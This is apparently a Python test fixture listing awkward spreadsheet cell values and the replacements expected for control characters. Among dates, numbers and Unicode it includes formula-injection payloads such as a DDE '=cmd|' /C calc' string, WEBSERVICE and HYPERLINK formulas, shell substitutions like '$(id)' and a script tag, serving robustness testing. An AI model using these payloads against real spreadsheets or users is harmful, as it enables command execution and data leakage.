"""Words that a spreadsheet might obey, break on or bend. Every one is something that somebody could type into a field."""

from __future__ import annotations

#: Come back from a workbook exactly as they are.
KEPT = [
    "=1+1", "=SUM(A1:A9)", '=HYPERLINK("http://example.org/?"&A1,"click")', "=cmd|' /C calc'!A0", "=IMPORTXML(A1,A2)",
    "=WEBSERVICE(A1)", "=1+1&REPT(\"x\",9)", "{=SUM(A1)}", "{=1}", "==1", " =1+1", "  +1", "+1+1", "+44 20 7946 0000", "-1+1",
    "- none", "-", "+", "=", "@SUM(1)", "@everyone", "＝1+1", "＋1", "－1", "＠SUM(1)", "−5", "\t=1+1", "tab\tinside", "'=1+1",
    "''=1", "'quoted'", "\"=1\"", "#REF!", "#N/A", "#DIV/0!", "#NAME?", "TRUE", "false", "01234", "1E5", "1/2", "3-4", "12:30",
    "2026-02-29", "29/02/2024", "03/04/2025", "£5", "50%", "1,000", "0x1F", "NaN", "inf", "None", "null", "NULL;--",
    "http://example.org/a?b=c&d=e", "mailto:someone@example.org", "internal:'Cover'!A1", "external:c:\\x.xlsx", "\\\\host\\share",
    "<b>bold</b>", "<?xml version='1.0'?>", "&amp;&lt;", "]]>", "a;b,c|d", "line\nnext", "line\n=1+1", "Llŷr Ŵyn", "Złoty", "日本語",
    "👩‍⚖️ 𝒳", "_x000D_", "_x0041_bc", "<script>alert(1)</script>", "$(id)", "`id`", "%0d%0a", "DDE", "REJECT('x')", "[=1]",
    "&L&K000000", "x" * 3000,
]  # fmt: skip
#: What becomes of those that cannot be kept as they are.
CHANGED = {
    "a\x0bb": "a\ufffdb",
    "a\x00b": "a\ufffdb",
    "\x1b[31m": "\ufffd[31m",
    "bell\x07": "bell\ufffd",
    "\x7f": "\ufffd",
    "\u202eabc": "\ufffdabc",
    "\u2066=1": "\ufffd=1",
    "\ud800half": "\ufffdhalf",
    "\uffffend": "\ufffdend",
    "\r=1": "\n=1",
    "one\r\ntwo": "one\ntwo",
}
ALL = [*KEPT, *CHANGED]


def back(words: str) -> str:
    """What is to come back of words that went in."""
    return CHANGED.get(words, words)
